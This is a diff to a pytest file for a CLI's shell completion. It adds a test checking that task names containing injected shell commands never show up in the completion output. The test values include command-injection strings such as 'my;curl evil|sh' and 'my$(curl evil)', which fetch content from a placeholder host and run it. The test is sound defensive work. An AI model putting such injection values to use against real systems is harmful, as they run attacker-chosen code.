@@ -57,3 +57,12 @@ def test_bash(line: str, expected: list[str], folder: Path, record: Callable[...
     make_task(folder / "task_data")
     record([*rows("my_first"), *rows("my_second")])
     assert completed(line, folder) == expected
+
+
+@pytest.mark.parametrize("name", ["my;curl evil|sh", "my$(curl evil)", "my`curl evil`", "my\nfile,evil", "my\x1b[31m"])
+def test_names_of_strangers_write_no_command(name: str, folder: Path, record: Callable[..., Path]) -> None:
+    make_task(folder / "task_data")
+    (folder / "task_data" / "tiny").rename(folder / "task_data" / name)
+    record([*rows(name), *rows("my_first")])
+    assert completed("pgdl results --submission m", folder) == ["plain,my_first"]
+    assert completed("pgdl score --task m", folder) == []
